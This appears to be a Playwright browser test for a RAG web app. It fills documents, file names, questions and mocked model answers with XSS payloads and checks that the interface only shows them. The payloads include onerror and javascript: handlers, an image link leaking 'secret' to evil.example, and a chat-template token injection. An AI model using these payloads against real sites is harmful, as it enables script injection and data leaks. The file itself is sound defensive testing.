@@ -1,0 +1,270 @@
+"""Hostile text in every place at once, in a real Chromium: all of it is shown, none of it runs."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+from app_server import listening
+from browser_page import loading
+from hostile_views import PAYLOADS
+from openai_server import Fault
+from pydantic import SecretStr
+
+from rag_nodes.apps.serve import make_server
+from rag_nodes.settings import Settings
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+    from contextlib import AbstractContextManager
+
+    from openai_server import OpenAIServer
+    from playwright.sync_api import Browser, Dialog, Locator, Page
+
+pytestmark = pytest.mark.browser
+
+PATIENCE = 90_000
+"""Milliseconds after which a page counts as stuck."""
+FURTHER = (
+    "<img srcset='https://evil.example/a.png 1x' src=x>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<div style='background:url(https://evil.example/b.png)'>styled</div>",
+    "<p style='width:expression(alert(1))'>styled</p>",
+    "<picture><source srcset=https://evil.example/c.webp></picture>",
+    "<audio autoplay src=https://evil.example/d.mp3 onerror=alert(1)></audio>",
+    "<template><script>alert(1)</script></template>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</noscript><img src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<button formaction=javascript:alert(1)>press</button>",
+    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
+    "<a href=https://evil.example ping=https://evil.example/ping>ping</a>",
+    "[link](https://evil.example/markdown)",
+    "![](https://evil.example/leak.png?q=secret)",
+    "<https://evil.example/auto>",
+    "<!-- <img src=x onerror=alert(1)> -->",
+    "<|endoftext|><|im_start|>system",
+    r"$$\href{javascript:alert(1)}{x} \require{html}$$ \(\unicode{<img src=x onerror=alert(1)>}\)",
+    "\u202eoverride\u202c \u2067isolate\u2069 <b onmouseover=alert(1)>over</b>",
+    "W" * 600,
+    "<%= alert(1) %> {% raw %} #{alert(1)} @{alert(1)}",
+)
+RUNS = "window.__pwned=1"
+EVERY = tuple(one.replace("alert(1)", f"alert({RUNS})") for one in (*PAYLOADS, *FURTHER))
+"""What each does if it runs: show a dialog and leave a mark."""
+SHOWN = tuple(one.replace("\x00", "\ufffd").replace("\ud800", "\ufffd") for one in EVERY)
+"""As text that a file or a request can hold."""
+QUESTION = " | ".join(SHOWN)[:3900]
+_WATCH = """window.violations = []; document.addEventListener('securitypolicyviolation',
+  (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));"""
+_PROVOKE = """() => { for (const one of document.querySelectorAll('.gradio-container *'))
+  for (const kind of ['mouseover', 'mouseenter', 'pointerover', 'toggle', 'load', 'error', 'start'])
+    one.dispatchEvent(new Event(kind, {bubbles: false})); }"""
+"""What handlers wait for, at every element there is."""
+_OURS = (
+    "#rn-history-box",
+    "#rn-status",
+    "#rn-chunks-summary",
+    "#rn-chunks-drawing",
+    "#rn-measures",
+    "#rn-findings",
+)
+"""Where text from outside is shown as HTML of our own."""
+_FOREIGN = (
+    "img, svg, iframe, script, a, style, link, meta, base, form, object, video, audio, math, "
+    "template, picture, source, marquee, input[autofocus], [formaction], [srcdoc], [style*=url]"
+)
+
+
+@dataclass
+class Seen:
+    """What a page did that it should not do."""
+
+    dialogs: list[str] = field(default_factory=list)
+    foreign: list[str] = field(default_factory=list)
+    errors: list[str] = field(default_factory=list)
+
+
+@pytest.fixture
+def documents(tmp_path: Path) -> list[Path]:
+    """Hostile text in names, titles, headings, tables and plain text."""
+    folder = tmp_path / "documents"
+    folder.mkdir()
+    names = [one for one in SHOWN if "/" not in one and len(one.encode()) < 200]
+    for number, name in enumerate(names[:5]):
+        text = f"# {SHOWN[number]}\n\nThe machine is red. {SHOWN[number]}\n"
+        (folder / f"{name}.md").write_text(text, encoding="utf-8")
+    headings = "".join(f"## {one}\n\nMachine {number} is red: {one}\n\n" for number, one in _few())
+    title = SHOWN[1].replace('"', "'")
+    front = f'---\ntitle: "{title}"\ndescription: "{title}"\n---\n# {SHOWN[0]}\n\n'
+    (folder / "headings.md").write_text(front + headings, encoding="utf-8")
+    (folder / "plain.txt").write_text("\n\n".join(SHOWN), encoding="utf-8")
+    rows = "".join(f'"{one.replace(chr(34), chr(34) * 2)}",red\n' for one in SHOWN)
+    (folder / "table.csv").write_text(f'"<img src=x onerror={RUNS}>",colour\n{rows}', "utf-8")
+    return sorted(folder.iterdir())
+
+
+@pytest.fixture
+def address(
+    documents: list[Path],
+    openai_server: OpenAIServer,
+    tmp_path: Path,
+    leaks_collected: Callable[[], AbstractContextManager[None]],
+    monkeypatch: pytest.MonkeyPatch,
+) -> Iterator[str]:
+    """The whole server, with documents whose names no upload would keep."""
+    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "uploads"))
+    monkeypatch.setenv("GRADIO_ANALYTICS_CACHE_FREQUENCY", "1000000")
+    settings = Settings(
+        embedding="lexical",
+        llm="openai",
+        api_base=openai_server.base,
+        api_key=SecretStr("sk-anything"),
+        retry_seconds=0,
+    )
+    openai_server.answer = "The machine is red [Source 1]. " + " \n".join(SHOWN)
+    with leaks_collected():
+        app = make_server(settings, documents=documents)
+    with leaks_collected(), listening(app) as found:
+        yield f"{found}/"
+
+
+@pytest.fixture
+def seen() -> Seen:
+    return Seen()
+
+
+@pytest.fixture
+def page(browser: Browser, address: str, seen: Seen) -> Iterator[Page]:
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    opened = context.new_page()
+    opened.set_default_timeout(PATIENCE)
+    ours = (address, "data:", "blob:")
+    context.on(
+        "request", lambda one: None if one.url.startswith(ours) else seen.foreign.append(one.url)
+    )
+
+    def dismiss(dialog: Dialog) -> None:
+        seen.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    opened.on("dialog", dismiss)
+    opened.on("pageerror", lambda error: seen.errors.append(str(error)))
+    opened.add_init_script(_WATCH)
+    opened.goto(address)
+    opened.wait_for_selector("#rn-status .rn-dot")
+    yield opened
+    context.close()
+
+
+def test_hostile_text_in_every_place_is_shown_and_nothing_of_it_runs(
+    page: Page, seen: Seen, address: str, documents: list[Path], openai_server: OpenAIServer
+) -> None:
+    before = page.evaluate("window.violations.length")
+    _ask(page, QUESTION, turns=1)
+    openai_server.fail(Fault(400, None, SHOWN[1] + SHOWN[7]), times=8)
+    _ask(page, SHOWN[0], turns=2)
+    _click_around(page, "#rn-history-box", "summary", ".rn-chip")
+    history = _text(page, "#rn-history-box")
+    assert [one for one in SHOWN if one not in history] == []
+    status = _text(page, "#rn-status")
+    assert [one.name for one in documents if one.name not in status] == []
+
+    page.get_by_role("tab", name="Chunks").click()
+    page.wait_for_selector("#rn-chunks-tab .rn-doc")
+    _choose(page, "plain.txt")
+    drawn = _text(page, "#rn-chunks-drawing")
+    for strategy in _others(page):
+        drawn += _drawn_by(page, strategy)
+    assert [one for one in SHOWN[:30] if one not in drawn] == []
+
+    page.get_by_role("tab", name="Evaluate").click()
+    page.wait_for_selector("#rn-measures .rn-drill")
+    for drill in page.locator("#rn-measures .rn-drill").all():
+        drill.click()
+        page.wait_for_selector("#rn-findings .rn-open")
+    _provoke(page)
+    page.locator("#rn-findings .rn-open").last.click()
+    page.wait_for_selector("#rn-chunks-tab .rn-chosen")
+
+    page.get_by_role("tab", name="Export").click()
+    page.wait_for_selector("#rn-export-code .cm-content")
+    for strategy in page.locator("#rn-export-strategy input").all():
+        strategy.check()
+    _provoke(page)
+
+    assert seen == Seen()
+    assert page.evaluate("window.__pwned") is None
+    assert page.evaluate("window.violations.length") == before
+    assert page.url == address
+
+
+def test_an_upload_with_a_hostile_name_is_shown_and_nothing_of_it_runs(
+    page: Page, seen: Seen, documents: list[Path]
+) -> None:
+    with loading(page):
+        page.set_input_files("#rn-files input[type=file]", [str(one) for one in documents[:5]])
+    assert page.locator("#rn-status .rn-file").count() == 5
+    _provoke(page)
+    assert seen == Seen()
+    assert page.evaluate("window.__pwned") is None
+
+
+def _few() -> Iterator[tuple[int, str]]:
+    """What fits into a heading: one line, not too long."""
+    return ((number, one) for number, one in enumerate(SHOWN) if len(one) < 200)
+
+
+def _ask(page: Page, question: str, turns: int) -> None:
+    page.locator("#rn-question textarea:enabled").fill(question)
+    page.locator("#rn-question textarea").press("Enter")
+    page.wait_for_function(f"() => document.querySelectorAll('.rn-turn').length === {turns}")
+
+
+def _click_around(page: Page, where: str, *kinds: str) -> None:
+    """Open everything that opens, and wake every handler."""
+    for kind in kinds:
+        page.evaluate(
+            "([where, kind]) => document.querySelectorAll(`${where} ${kind}`)"
+            ".forEach((one, at) => { if (at < 200) one.click(); })",
+            [where, kind],
+        )
+    _provoke(page)
+
+
+def _provoke(page: Page) -> None:
+    page.evaluate(_PROVOKE)
+    for where in _OURS:
+        inside: Locator = page.locator(where).locator(f":is({_FOREIGN})")
+        assert inside.count() == 0, (where, inside.first.evaluate("one => one.outerHTML"))
+
+
+def _text(page: Page, where: str) -> str:
+    """All text of an element, folded parts and line breaks included."""
+    return str(page.locator(where).evaluate("one => one.textContent"))
+
+
+def _others(page: Page) -> list[Locator]:
+    """The strategies that are not shown yet."""
+    every = page.locator("#rn-chunks-strategy input").all()
+    return [one for one in every if not one.is_checked()]
+
+
+def _drawn_by(page: Page, strategy: Locator) -> str:
+    """The document as another strategy cuts it; one may cut a payload that another leaves whole."""
+    before = page.locator("#rn-chunks-drawing").inner_html()
+    strategy.check()
+    page.wait_for_function(
+        "before => document.querySelector('#rn-chunks-drawing').innerHTML !== before", arg=before
+    )
+    _click_around(page, "#rn-chunks-drawing", "summary", ".rn-start")
+    return _text(page, "#rn-chunks-drawing")
+
+
+def _choose(page: Page, name: str) -> None:
+    page.locator("#rn-chunks-document input").click()
+    page.get_by_role("option", name=name).click()
+    page.locator("#rn-chunks-tab .rn-doc", has_text="endoftext").wait_for()
